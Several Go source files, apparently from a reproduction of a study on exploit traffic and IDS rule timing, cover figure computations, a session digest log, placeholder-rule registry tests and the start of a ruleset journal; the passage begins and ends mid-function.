					res.SatisfiedCount++
				}
			} else {
				sat, known := t.Before(d.A, d.B)
				if !known {
					continue
				}
				res.Evaluated++
				if sat {
					res.SatisfiedCount++
				}
			}
		}
		if res.Evaluated > 0 {
			res.Satisfied = float64(res.SatisfiedCount) / float64(res.Evaluated)
		}
		res.Skill = Skill(res.Satisfied, res.Baseline)
		out = append(out, res)
	}
	return out
}

// Mitigated reports whether an event struck a CVE that had a deployed
// defense at the event's time.
func Mitigated(ev *ids.Event, t *lifecycle.Timeline) bool {
	d, ok := t.Get(lifecycle.FixDeployed)
	return ok && d.Before(ev.Time)
}

// ExposureBins is Figure 6: per 5-day bin relative to publication, the
// number of distinct CVEs targeted, split by whether an IDS rule was
// deployed during that bin.
type ExposureBins struct {
	// BinDays is the bin width (5 in the paper).
	BinDays float64
	// Bins[i] covers [Lo + i*BinDays, ...). Lo is the first bin edge.
	Lo        float64
	Mitigated []int
	Unmit     []int
}

// BinStart returns the inclusive start, in days relative to publication, of
// bin i.
func (e *ExposureBins) BinStart(i int) float64 { return e.Lo + float64(i)*e.BinDays }

// ExposureByBin computes Figure 6 over the given horizon (days before and
// after publication).
func ExposureByBin(events []ids.Event, timelines []lifecycle.Timeline, binDays, loDays, hiDays float64) ExposureBins {
	idx := timelineIndex(timelines)
	nbins := int((hiDays - loDays) / binDays)
	out := ExposureBins{
		BinDays:   binDays,
		Lo:        loDays,
		Mitigated: make([]int, nbins),
		Unmit:     make([]int, nbins),
	}
	type key struct {
		cve string
		bin int
		mit bool
	}
	seen := map[key]bool{}
	for i := range events {
		ev := &events[i]
		t, ok := idx[ev.CVE]
		if !ok {
			continue
		}
		p, okP := t.Get(lifecycle.PublicAware)
		if !okP {
			continue
		}
		rel := ev.Time.Sub(p).Hours() / 24
		bin := int((rel - loDays) / binDays)
		if rel < loDays || bin >= nbins {
			continue
		}
		mit := Mitigated(ev, t)
		k := key{cve: ev.CVE, bin: bin, mit: mit}
		if seen[k] {
			continue
		}
		seen[k] = true
		if mit {
			out.Mitigated[bin]++
		} else {
			out.Unmit[bin]++
		}
	}
	return out
}

// ExposureCDFs is Figure 7: cumulative exploit events over time since
// disclosure, segmented by mitigation.
type ExposureCDFs struct {
	MitigatedDays []float64
	UnmitDays     []float64
	Mitigated     *stats.ECDF
	Unmit         *stats.ECDF
}

// ExposureCDF computes Figure 7. Events before publication appear at
// negative day offsets.
func ExposureCDF(events []ids.Event, timelines []lifecycle.Timeline) ExposureCDFs {
	idx := timelineIndex(timelines)
	var out ExposureCDFs
	for i := range events {
		ev := &events[i]
		t, ok := idx[ev.CVE]
		if !ok {
			continue
		}
		p, okP := t.Get(lifecycle.PublicAware)
		if !okP {
			continue
		}
		rel := ev.Time.Sub(p).Hours() / 24
		if Mitigated(ev, t) {
			out.MitigatedDays = append(out.MitigatedDays, rel)
		} else {
			out.UnmitDays = append(out.UnmitDays, rel)
		}
	}
	if len(out.MitigatedDays) > 0 {
		out.Mitigated = stats.MustECDF(out.MitigatedDays)
	}
	if len(out.UnmitDays) > 0 {
		out.Unmit = stats.MustECDF(out.UnmitDays)
	}
	return out
}

// MitigatedShare is the headline Section 6 number: the fraction of exploit
// events that struck an already-defended CVE (the paper reports 95%).
func MitigatedShare(events []ids.Event, timelines []lifecycle.Timeline) float64 {
	idx := timelineIndex(timelines)
	mit, total := 0, 0
	for i := range events {
		t, ok := idx[events[i].CVE]
		if !ok {
			continue
		}
		total++
		if Mitigated(&events[i], t) {
			mit++
		}
	}
	if total == 0 {
		return 0
	}
	return float64(mit) / float64(total)
}

// UnmitigatedConcentration returns the fraction of unmitigated exposure in
// the first `days` after publication among post-publication unmitigated
// events (Finding 12: 50% within 30 days).
func UnmitigatedConcentration(cdfs ExposureCDFs, days float64) float64 {
	if cdfs.Unmit == nil {
		return 0
	}
	post := 1 - cdfs.Unmit.At(0)
	if post == 0 {
		return 0
	}
	return (cdfs.Unmit.At(days) - cdfs.Unmit.At(0)) / post
}

// EventTimeline is Figure 3 (absolute time) / Figure 4 (relative to
// publication) raw material: event counts per bin.
func EventTimeline(events []ids.Event, binDays int, start, end time.Time) *stats.Histogram {
	h, err := stats.NewHistogram(0, float64(binDays), int(end.Sub(start).Hours()/24)/binDays+1)
	if err != nil {
		return nil
	}
	for i := range events {
		h.Add(events[i].Time.Sub(start).Hours() / 24)
	}
	return h
}

// RelativeEventTimeline bins events by days since their CVE's publication
// (Figure 4).
func RelativeEventTimeline(events []ids.Event, timelines []lifecycle.Timeline, binDays float64, loDays, hiDays float64) *stats.Histogram {
	idx := timelineIndex(timelines)
	nbins := int((hiDays - loDays) / binDays)
	h, err := stats.NewHistogram(loDays, binDays, nbins)
	if err != nil {
		return nil
	}
	for i := range events {
		t, ok := idx[events[i].CVE]
		if !ok {
			continue
		}
		p, okP := t.Get(lifecycle.PublicAware)
		if !okP {
			continue
		}
		h.Add(events[i].Time.Sub(p).Hours() / 24)
	}
	return h
}
