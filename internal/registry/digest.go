package registry

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"sync"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/tcpasm"
)

// Per-session digests are what make retroactive re-attribution possible: at
// ingest time, every session (matched or not — unmatched sessions can gain a
// label when an earlier-published rule arrives later) persists the exact
// inputs the matcher consumed: normalized stream samples plus the session
// identity and its ingest-time label. A rescan reconstructs a
// tcpasm.Session from the digest and re-runs the engine cold; when the
// effective label differs from the recorded one, it emits an amendment.
//
// digests.log shares the event store's frame codec (records stay far below
// its 1 MB bound given the sample caps) behind its own magic. Appends are
// buffered in the OS; Sync is called from the ingest checkpoint path so
// digest durability rides the same cadence as event durability. A lost tail
// after a crash costs re-attribution coverage for the lost sessions only.

var digestMagic = [8]byte{'S', 'D', 'I', 'G', 0x01, 0x01, 0x01, '\n'}

// DefaultSampleLimit caps each direction's stored stream sample. The
// telescope's sessions are short probes; 64 KiB keeps virtually all of them
// whole (Truncated marks the rest).
const DefaultSampleLimit = 64 << 10

// Digest is one session's matcher-relevant state.
type Digest struct {
	Start      time.Time
	Client     packet.Endpoint
	Server     packet.Endpoint
	ClientData []byte
	ServerData []byte
	Complete   bool
	// Truncated marks a digest whose samples hit the cap: a rescan over it
	// sees less than the cold pipeline did, so label differences are
	// advisory, not amendments.
	Truncated bool
	// Ambiguous carries the reassembler's overlap-conflict flag: the stored
	// stream sample reflects one overlap-policy choice among several the
	// wire permitted, so a rescan must weigh its verdict the same way the
	// live pipeline did.
	Ambiguous bool
	// OrigSID/OrigCVE/OrigPublished record the ingest-time label (zero SID =
	// no match).
	OrigSID       int
	OrigCVE       string
	OrigPublished time.Time
}

// Session reconstructs the matcher's view of the session. The fields the
// engine consults (Start, endpoints, stream data, Complete) round-trip; the
// rest (End, Packets) are not digested because no rule path reads them.
func (d *Digest) Session() tcpasm.Session {
	return tcpasm.Session{
		Client:     d.Client,
		Server:     d.Server,
		Start:      d.Start,
		ClientData: d.ClientData,
		ServerData: d.ServerData,
		Complete:   d.Complete,
		Ambiguous:  d.Ambiguous,
	}
}

func appendDigest(buf []byte, d *Digest) []byte {
	buf = binary.LittleEndian.AppendUint64(buf, uint64(d.Start.Unix()))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(d.Start.Nanosecond()))
	buf = appendEndpoint(buf, d.Client)
	buf = appendEndpoint(buf, d.Server)
	buf = appendBytes32(buf, d.ClientData)
	buf = appendBytes32(buf, d.ServerData)
	var flags byte
	if d.Complete {
		flags |= 1
	}
	if d.Truncated {
		flags |= 2
	}
	if d.Ambiguous {
		flags |= 4
	}
	buf = append(buf, flags)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(d.OrigSID))
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(d.OrigCVE)))
	buf = append(buf, d.OrigCVE...)
	buf = binary.LittleEndian.AppendUint64(buf, uint64(d.OrigPublished.Unix()))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(d.OrigPublished.Nanosecond()))
	return buf
}

func appendEndpoint(buf []byte, e packet.Endpoint) []byte {
	addr := e.Addr.AsSlice()
	buf = append(buf, byte(len(addr)))
	buf = append(buf, addr...)
	return binary.LittleEndian.AppendUint16(buf, e.Port)
}

func appendBytes32(buf, b []byte) []byte {
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(b)))
	return append(buf, b...)
}

type digestDecoder struct {
	b   []byte
	err error
}

func (d *digestDecoder) take(n int) []byte {
	if d.err != nil {
		return nil
	}
	if len(d.b) < n {
		d.err = fmt.Errorf("registry: digest truncated (%d of %d bytes)", len(d.b), n)
		return nil
	}
	out := d.b[:n]
	d.b = d.b[n:]
	return out
}

func (d *digestDecoder) time() time.Time {
	b := d.take(12)
	if b == nil {
		return time.Time{}
	}
	return time.Unix(int64(binary.LittleEndian.Uint64(b[:8])),
		int64(binary.LittleEndian.Uint32(b[8:12]))).UTC()
}

func (d *digestDecoder) endpoint() packet.Endpoint {
	lb := d.take(1)
	if lb == nil {
		return packet.Endpoint{}
	}
	var ep packet.Endpoint
	if n := int(lb[0]); n > 0 {
		ab := d.take(n)
		if ab == nil {
			return packet.Endpoint{}
		}
		addr, ok := netip.AddrFromSlice(ab)
		if !ok {
			d.err = fmt.Errorf("registry: digest has bad address length %d", n)
			return packet.Endpoint{}
		}
		ep.Addr = addr
	}
	pb := d.take(2)
	if pb != nil {
		ep.Port = binary.LittleEndian.Uint16(pb)
	}
	return ep
}

func (d *digestDecoder) bytes32() []byte {
	lb := d.take(4)
	if lb == nil {
		return nil
	}
	b := d.take(int(binary.LittleEndian.Uint32(lb)))
	if b == nil {
		return nil
	}
	return append([]byte(nil), b...)
}

func decodeDigest(payload []byte) (Digest, error) {
	var dg Digest
	d := digestDecoder{b: payload}
	dg.Start = d.time()
	dg.Client = d.endpoint()
	dg.Server = d.endpoint()
	dg.ClientData = d.bytes32()
	dg.ServerData = d.bytes32()
	if fb := d.take(1); fb != nil {
		dg.Complete = fb[0]&1 != 0
		dg.Truncated = fb[0]&2 != 0
		dg.Ambiguous = fb[0]&4 != 0
	}
	if sb := d.take(4); sb != nil {
		dg.OrigSID = int(binary.LittleEndian.Uint32(sb))
	}
	if lb := d.take(2); lb != nil {
		if cb := d.take(int(binary.LittleEndian.Uint16(lb))); cb != nil {
			dg.OrigCVE = string(cb)
		}
	}
	dg.OrigPublished = d.time()
	if d.err != nil {
		return Digest{}, d.err
	}
	if len(d.b) != 0 {
		return Digest{}, fmt.Errorf("registry: %d stray bytes after digest", len(d.b))
	}
	return dg, nil
}

// digestLog is the open digest file.
type digestLog struct {
	fs   fault.FS
	path string

	mu   sync.Mutex
	f    fault.File
	size int64
	bad  error
	n    int64 // recovered + appended record count
}

func openDigestLog(fs fault.FS, dir string) (*digestLog, error) {
	path := filepath.Join(dir, "digests.log")
	f, err := fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	raw, err := fs.ReadFile(path)
	if err != nil {
		f.Close()
		return nil, err
	}
	l := &digestLog{fs: fs, path: path, f: f}
	var size int64
	switch {
	case len(raw) < len(digestMagic) && bytes.Equal(raw, digestMagic[:len(raw)]):
		if _, err := f.Write(digestMagic[:]); err != nil {
			f.Close()
			return nil, err
		}
		if err := f.Truncate(int64(len(digestMagic))); err != nil {
			f.Close()
			return nil, err
		}
		size = int64(len(digestMagic))
	case [8]byte(raw[:8]) != digestMagic:
		f.Close()
		return nil, fmt.Errorf("registry: %s is not a digest log", path)
	default:
		good, _, err := eventstore.ScanFrames(raw[len(digestMagic):], func(payload []byte) error {
			if _, derr := decodeDigest(payload); derr != nil {
				return derr
			}
			l.n++
			return nil
		})
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("registry: %s: %w", path, err)
		}
		size = int64(len(digestMagic) + good)
		if size < int64(len(raw)) {
			if err := f.Truncate(size); err != nil {
				f.Close()
				return nil, err
			}
		}
	}
	if _, err := f.Seek(size, 0); err != nil {
		f.Close()
		return nil, err
	}
	l.size = size
	return l, nil
}

// Append writes digests. Durability arrives at the next Sync.
func (l *digestLog) Append(ds []Digest) error {
	if len(ds) == 0 {
		return nil
	}
	var buf, payload []byte
	for i := range ds {
		payload = appendDigest(payload[:0], &ds[i])
		buf = eventstore.AppendFrame(buf, payload)
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.bad != nil {
		return l.bad
	}
	if _, err := l.f.Write(buf); err != nil {
		if terr := l.f.Truncate(l.size); terr != nil {
			l.bad = fmt.Errorf("registry: digest log poisoned: %w", terr)
		} else {
			l.f.Seek(l.size, 0)
		}
		return fmt.Errorf("registry: appending digests: %w", err)
	}
	l.size += int64(len(buf))
	l.n += int64(len(ds))
	return nil
}

// Sync fsyncs the log — called from the ingest checkpoint path.
func (l *digestLog) Sync() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.f.Sync()
}

// Len returns the record count.
func (l *digestLog) Len() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.n
}

// walk re-reads the log from disk and streams every intact digest to fn —
// the rescan path. It reads a point-in-time prefix; records appended during
// the walk are covered by the next rescan.
func (l *digestLog) walk(fn func(Digest) error) error {
	raw, err := l.fs.ReadFile(l.path)
	if err != nil {
		return err
	}
	if len(raw) < len(digestMagic) {
		return nil
	}
	_, _, err = eventstore.ScanFrames(raw[len(digestMagic):], func(payload []byte) error {
		d, derr := decodeDigest(payload)
		if derr != nil {
			return derr
		}
		return fn(d)
	})
	return err
}

// DigestOf captures a session and its ingest-time label (ev nil = no match)
// under the sample cap.
func DigestOf(s *tcpasm.Session, ev *ids.Event, sampleLimit int) Digest {
	if sampleLimit <= 0 {
		sampleLimit = DefaultSampleLimit
	}
	d := Digest{
		Start:     s.Start,
		Client:    s.Client,
		Server:    s.Server,
		Complete:  s.Complete,
		Ambiguous: s.Ambiguous,
	}
	d.ClientData, d.Truncated = capSample(s.ClientData, sampleLimit, d.Truncated)
	d.ServerData, d.Truncated = capSample(s.ServerData, sampleLimit, d.Truncated)
	if ev != nil {
		d.OrigSID = ev.SID
		d.OrigCVE = ev.CVE
		d.OrigPublished = ev.Published
	}
	return d
}

func capSample(b []byte, limit int, truncated bool) ([]byte, bool) {
	if len(b) > limit {
		return append([]byte(nil), b[:limit]...), true
	}
	return append([]byte(nil), b...), truncated
}
