package registry

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fuzzcorpus"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

func datedRule(t testing.TB, raw string, pub time.Time) rules.DatedRule {
	t.Helper()
	r, err := rules.Parse(raw)
	if err != nil {
		t.Fatalf("Parse(%q): %v", raw, err)
	}
	return rules.DatedRule{Rule: r, Published: pub}
}

var (
	basePub  = time.Date(2022, 6, 1, 0, 0, 0, 0, time.UTC)
	earlyPub = time.Date(2021, 9, 1, 0, 0, 0, 0, time.UTC)
)

func baseRuleset(t testing.TB) []rules.DatedRule {
	return []rules.DatedRule{
		datedRule(t, `alert tcp any any -> any any (msg:"base generic"; content:"cmd=evil"; reference:cve,2022-1000; sid:500001; rev:1;)`, basePub),
	}
}

func testSession(i int, data string) tcpasm.Session {
	return tcpasm.Session{
		Client:     packet.Endpoint{Addr: packet.MustAddr("203.0.113.7"), Port: uint16(40000 + i)},
		Server:     packet.Endpoint{Addr: packet.MustAddr("18.204.7.9"), Port: 80},
		Start:      time.Date(2022, 3, 10, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Minute),
		ClientData: []byte(data),
		Complete:   true,
	}
}

func TestPublishSwapsEngineAndPersists(t *testing.T) {
	dir := t.TempDir()
	cfg := Config{Dir: dir, Base: baseRuleset(t)}
	r, err := Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if r.Generation() != 0 || r.NumRules() != 1 {
		t.Fatalf("fresh registry: gen %d rules %d", r.Generation(), r.NumRules())
	}
	e0 := r.Engine()
	s := testSession(0, "GET /x?cmd=evil HTTP/1.1\r\n\r\n")
	ev, ok := ids.MatchSession(&s, e0)
	if !ok || ev.SID != 500001 {
		t.Fatalf("base engine match: %v %+v", ok, ev)
	}

	delta := []rules.DatedRule{
		datedRule(t, `alert tcp any any -> any any (msg:"earlier specific"; content:"cmd=evil"; reference:cve,2021-2000; sid:500002; rev:1;)`, earlyPub),
	}
	gen, err := r.Publish(delta)
	if err != nil {
		t.Fatal(err)
	}
	if gen != 1 || r.Generation() != 1 || r.NumRules() != 2 {
		t.Fatalf("after publish: gen %d rules %d", r.Generation(), r.NumRules())
	}
	if r.Engine() == e0 {
		t.Fatal("publish must swap the engine pointer")
	}
	// Earliest-published-match now prefers the earlier rule.
	ev, ok = ids.MatchSession(&s, r.Engine())
	if !ok || ev.SID != 500002 || !ev.Published.Equal(earlyPub) {
		t.Fatalf("new engine match: %v %+v", ok, ev)
	}
	if !r.RescanNeeded() {
		t.Error("publish must set the rescan marker")
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen: journal folds back, generation and engine behavior persist.
	r2, err := Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer r2.Close()
	if r2.Generation() != 1 || r2.NumRules() != 2 {
		t.Fatalf("reopened: gen %d rules %d", r2.Generation(), r2.NumRules())
	}
	ev, ok = ids.MatchSession(&s, r2.Engine())
	if !ok || ev.SID != 500002 {
		t.Fatalf("reopened engine match: %v %+v", ok, ev)
	}
	// The compiled automaton was cached on disk at first compile.
	names, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	cached := false
	for _, n := range names {
		if strings.HasPrefix(n.Name(), "automaton-") && strings.HasSuffix(n.Name(), ".bin") {
			cached = true
		}
	}
	if !cached {
		t.Error("no automaton cache files written")
	}
}

func TestRefreshPicksUpCrossProcessPublish(t *testing.T) {
	dir := t.TempDir()
	cfg := Config{Dir: dir, Base: baseRuleset(t)}
	daemon, err := Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer daemon.Close()
	ctl, err := Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ctl.Publish([]rules.DatedRule{
		datedRule(t, `alert tcp any any -> any any (msg:"ctl published"; content:"zzz-token"; sid:500010; rev:1;)`, earlyPub),
	}); err != nil {
		t.Fatal(err)
	}
	ctl.Close()

	gen, err := daemon.Refresh()
	if err != nil {
		t.Fatal(err)
	}
	if gen != 1 || daemon.NumRules() != 2 {
		t.Fatalf("refresh: gen %d rules %d", gen, daemon.NumRules())
	}
	s := testSession(1, "payload zzz-token here")
	if ev, ok := ids.MatchSession(&s, daemon.Engine()); !ok || ev.SID != 500010 {
		t.Fatalf("refreshed engine: %v %+v", ok, ev)
	}
	// No new entries: Refresh is a no-op returning the same generation.
	gen2, err := daemon.Refresh()
	if err != nil || gen2 != gen {
		t.Fatalf("idempotent refresh: %d %v", gen2, err)
	}
}

// TestRescanReattributesHistory is the subsystem's core promise: publish an
// earlier-published rule after ingest, rescan, and stored history re-labels
// to what a cold run over the final ruleset would say.
func TestRescanReattributesHistory(t *testing.T) {
	dir := t.TempDir()
	cfg := Config{Dir: dir, Base: baseRuleset(t)}
	r, err := Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	st, err := eventstore.Open(filepath.Join(dir, "events"), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()

	// Ingest three sessions under generation 0: one matches the base rule,
	// one matches nothing (yet), one matches nothing ever.
	sessions := []tcpasm.Session{
		testSession(0, "GET /a?cmd=evil HTTP/1.1\r\n\r\n"),
		testSession(1, "POST /b late-sig-token HTTP/1.1\r\n\r\n"),
		testSession(2, "benign traffic"),
	}
	var digests []Digest
	for i := range sessions {
		ev, ok := ids.MatchSession(&sessions[i], r.Engine())
		if ok {
			if err := st.Append(ev); err != nil {
				t.Fatal(err)
			}
			digests = append(digests, DigestOf(&sessions[i], &ev, r.SampleLimit()))
		} else {
			digests = append(digests, DigestOf(&sessions[i], nil, r.SampleLimit()))
		}
	}
	if err := r.RecordDigests(digests); err != nil {
		t.Fatal(err)
	}
	if err := r.SyncDigests(); err != nil {
		t.Fatal(err)
	}
	if st.Snapshot().Len() != 1 {
		t.Fatalf("pre-publish events: %d", st.Snapshot().Len())
	}

	// Publish: an earlier rule that outbids the base rule on session 0, and
	// a rule that newly matches session 1.
	delta := []rules.DatedRule{
		datedRule(t, `alert tcp any any -> any any (msg:"earlier"; content:"cmd=evil"; reference:cve,2021-2000; sid:500002; rev:1;)`, earlyPub),
		datedRule(t, `alert tcp any any -> any any (msg:"late sig"; content:"late-sig-token"; reference:cve,2021-3000; sid:500003; rev:1;)`, earlyPub),
	}
	if _, err := r.Publish(delta); err != nil {
		t.Fatal(err)
	}
	stats, err := r.Rescan(st)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Digests != 3 || stats.Amended != 2 || stats.Additions != 1 || stats.Retracted != 0 {
		t.Fatalf("rescan stats: %+v", stats)
	}
	if r.RescanNeeded() {
		t.Error("completed rescan must clear the marker")
	}
	if r.RescanPending() != 0 {
		t.Errorf("pending backlog = %d after rescan", r.RescanPending())
	}

	// Resolved history equals a cold run over the final ruleset.
	var cold []ids.Event
	for i := range sessions {
		if ev, ok := ids.MatchSession(&sessions[i], r.Engine()); ok {
			cold = append(cold, ev)
		}
	}
	eventstore.SortEvents(cold)
	got := st.Snapshot().Events()
	if len(got) != len(cold) {
		t.Fatalf("resolved %d events, cold run %d", len(got), len(cold))
	}
	for i := range got {
		if got[i].SID != cold[i].SID || got[i].CVE != cold[i].CVE ||
			!got[i].Published.Equal(cold[i].Published) || !got[i].Time.Equal(cold[i].Time) {
			t.Fatalf("event %d:\n got %+v\nwant %+v", i, got[i], cold[i])
		}
	}

	// Idempotence: a second rescan (the crash-restart path) changes nothing.
	if _, err := r.Rescan(st); err != nil {
		t.Fatal(err)
	}
	again := st.Snapshot().Events()
	if len(again) != len(got) {
		t.Fatalf("re-rescan changed history: %d vs %d events", len(again), len(got))
	}
	for i := range again {
		if again[i].SID != got[i].SID {
			t.Fatalf("re-rescan changed event %d", i)
		}
	}
}

func TestDigestCodecRoundTrip(t *testing.T) {
	s := testSession(4, "GET / HTTP/1.1\r\n\r\n")
	s.ServerData = []byte("HTTP/1.1 200 OK\r\n\r\n")
	ev := ids.Event{SID: 7, CVE: "2021-44228", Published: earlyPub}
	d := DigestOf(&s, &ev, 0)
	payload := appendDigest(nil, &d)
	got, err := decodeDigest(payload)
	if err != nil {
		t.Fatal(err)
	}
	if !got.Start.Equal(d.Start) || got.Client != d.Client || got.Server != d.Server ||
		string(got.ClientData) != string(d.ClientData) ||
		string(got.ServerData) != string(d.ServerData) ||
		got.Complete != d.Complete || got.Truncated != d.Truncated ||
		got.OrigSID != d.OrigSID || got.OrigCVE != d.OrigCVE ||
		!got.OrigPublished.Equal(d.OrigPublished) {
		t.Fatalf("round trip:\n got %+v\nwant %+v", got, d)
	}
	if _, err := decodeDigest(payload[:len(payload)-1]); err == nil {
		t.Error("truncated digest decoded")
	}

	// Cap behavior: oversized streams truncate and mark the digest.
	big := testSession(5, strings.Repeat("A", 100))
	dcap := DigestOf(&big, nil, 10)
	if len(dcap.ClientData) != 10 || !dcap.Truncated {
		t.Fatalf("cap: %d bytes, truncated=%v", len(dcap.ClientData), dcap.Truncated)
	}
}

// FuzzRulesetJournal feeds arbitrary bytes as an on-disk journal: Open must
// never panic, must recover a clean prefix, and the journal must remain
// usable (publish + reopen round-trip) afterwards.
func FuzzRulesetJournal(f *testing.F) {
	f.Add([]byte{})
	f.Add(journalMagic[:])
	f.Add(journalMagic[:4])
	f.Add(append(append([]byte{}, journalMagic[:]...), 0xff, 0xff, 0xff, 0x7f, 0, 0, 0, 0))
	// A valid single-entry journal, then mutations of it via the corpus.
	valid := func() []byte {
		dir := f.TempDir()
		cfg := Config{Dir: dir, Base: nil}
		r, err := Open(cfg)
		if err != nil {
			f.Fatal(err)
		}
		if _, err := r.Publish([]rules.DatedRule{
			datedRule(f, `alert tcp any any -> any any (msg:"seed"; content:"abc"; sid:1; rev:1;)`, earlyPub),
		}); err != nil {
			f.Fatal(err)
		}
		r.Close()
		b, err := os.ReadFile(filepath.Join(dir, "ruleset.journal"))
		if err != nil {
			f.Fatal(err)
		}
		return b
	}()
	f.Add(valid)
	f.Add(valid[:len(valid)-3])
	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "ruleset.journal"), data, 0o644); err != nil {
			t.Fatal(err)
		}
		r, err := Open(Config{Dir: dir})
		if err != nil {
			return // rejected loudly: fine
		}
		gen := r.Generation()
		// The journal must be append-ready after any recovery.
		if _, err := r.Publish([]rules.DatedRule{
			datedRule(t, `alert tcp any any -> any any (msg:"post"; content:"xyz"; sid:999; rev:1;)`, earlyPub),
		}); err != nil {
			t.Fatalf("publish after recovery of %d bytes: %v", len(data), err)
		}
		if r.Generation() != gen+1 {
			t.Fatalf("generation %d after publish, want %d", r.Generation(), gen+1)
		}
		r.Close()
		r2, err := Open(Config{Dir: dir})
		if err != nil {
			t.Fatalf("reopen after publish: %v", err)
		}
		if r2.Generation() != gen+1 {
			t.Fatalf("reopened generation %d, want %d", r2.Generation(), gen+1)
		}
		r2.Close()
	})
}

// TestRegenFuzzRulesetJournalCorpus writes the committed seed corpus when
// REGEN_FUZZ_CORPUS=1.
func TestRegenFuzzRulesetJournalCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to regenerate")
	}
	dir := t.TempDir()
	r, err := Open(Config{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	for i, raw := range []string{
		`alert tcp any any -> any any (msg:"one"; content:"abc"; sid:10; rev:1;)`,
		`alert tcp any any -> any any (msg:"two"; content:"def"; sid:11; rev:2;)`,
	} {
		if _, err := r.Publish([]rules.DatedRule{datedRule(t, raw, earlyPub.AddDate(0, i, 0))}); err != nil {
			t.Fatal(err)
		}
	}
	r.Close()
	b, err := os.ReadFile(filepath.Join(dir, "ruleset.journal"))
	if err != nil {
		t.Fatal(err)
	}
	seeds := [][]byte{
		{},
		journalMagic[:],
		b,
		b[:len(b)-5],
		append(append([]byte{}, b...), 0xde, 0xad, 0xbe, 0xef),
	}
	fuzzcorpus.Write(t, "FuzzRulesetJournal", seeds)
}
