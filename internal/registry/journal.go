package registry

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"

	"repro/internal/fault"
	"repro/internal/rules"
)

// The ruleset journal is the registry's source of truth: an append-only log
// of ruleset deltas, one entry per publication. Each entry carries a
// monotonic generation number and the delta in the dated-ruleset text format
// (a publication comment per rule), so the journal is greppable with the
// same tooling as the study ruleset and folds back through the one parser
// everything else uses.
//
// Framing is the store family's length+CRC scheme but with its own payload
// cap: a full Talos-scale delta is a few megabytes of text, far beyond the
// event store's 1 MB record bound.
//
//	8-byte magic "RSJRNL\x01\n"
//	repeated entries: u32 payload length | u32 CRC-32 (IEEE) of payload | payload
//	payload: u64 generation | dated-ruleset text
//
// Recovery truncates at the first torn or corrupt frame — a crash mid-publish
// costs that publish (the caller re-publishes), never the journal.

var journalMagic = [8]byte{'R', 'S', 'J', 'R', 'N', 'L', 0x01, '\n'}

const (
	journalFrameLen = 8
	// maxJournalEntry bounds one delta's encoded size. A 48k-rule full
	// snapshot in text form is ~6 MB; 64 MB leaves an order of magnitude of
	// headroom while still rejecting garbage length prefixes.
	maxJournalEntry = 64 << 20
)

var journalCRC = crc32.MakeTable(crc32.IEEE)

// journalEntry is one decoded publication.
type journalEntry struct {
	gen   uint64
	delta []rules.DatedRule
}

// rulesetJournal is the open journal file plus its recovered entries' high
// generation.
type rulesetJournal struct {
	fs   fault.FS
	f    fault.File
	path string
	size int64
	gen  uint64 // generation of the newest entry (0 = empty journal)
	bad  error
}

// openJournal opens (creating if needed) dir/ruleset.journal, replays every
// intact entry through apply in order, and truncates any torn tail.
func openJournal(fs fault.FS, dir string, apply func(journalEntry)) (*rulesetJournal, error) {
	path := filepath.Join(dir, "ruleset.journal")
	f, err := fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	j := &rulesetJournal{fs: fs, f: f, path: path}
	if err := j.recover(apply); err != nil {
		f.Close()
		return nil, err
	}
	return j, nil
}

func (j *rulesetJournal) recover(apply func(journalEntry)) error {
	raw, err := j.fs.ReadFile(j.path)
	if err != nil {
		return err
	}
	var size int64
	switch {
	case len(raw) < len(journalMagic) && bytes.Equal(raw, journalMagic[:len(raw)]):
		// Empty or a torn header: nothing can have been published; rewrite.
		if _, err := j.f.Write(journalMagic[:]); err != nil {
			return err
		}
		if err := j.f.Truncate(int64(len(journalMagic))); err != nil {
			return err
		}
		size = int64(len(journalMagic))
	case [8]byte(raw[:8]) != journalMagic:
		return fmt.Errorf("registry: %s is not a ruleset journal", j.path)
	default:
		good, err := j.scan(raw[len(journalMagic):], apply)
		if err != nil {
			return err
		}
		size = int64(len(journalMagic) + good)
		if size < int64(len(raw)) {
			if err := j.f.Truncate(size); err != nil {
				return err
			}
		}
	}
	if _, err := j.f.Seek(size, 0); err != nil {
		return err
	}
	j.size = size
	return nil
}

// scan walks intact frames, applying each decoded entry. It returns the
// clean byte count. Generations must be strictly increasing; a decreasing or
// repeated generation means the file was spliced and recovery stops there.
func (j *rulesetJournal) scan(b []byte, apply func(journalEntry)) (int, error) {
	off := 0
	for {
		if len(b)-off < journalFrameLen {
			return off, nil
		}
		length := binary.LittleEndian.Uint32(b[off : off+4])
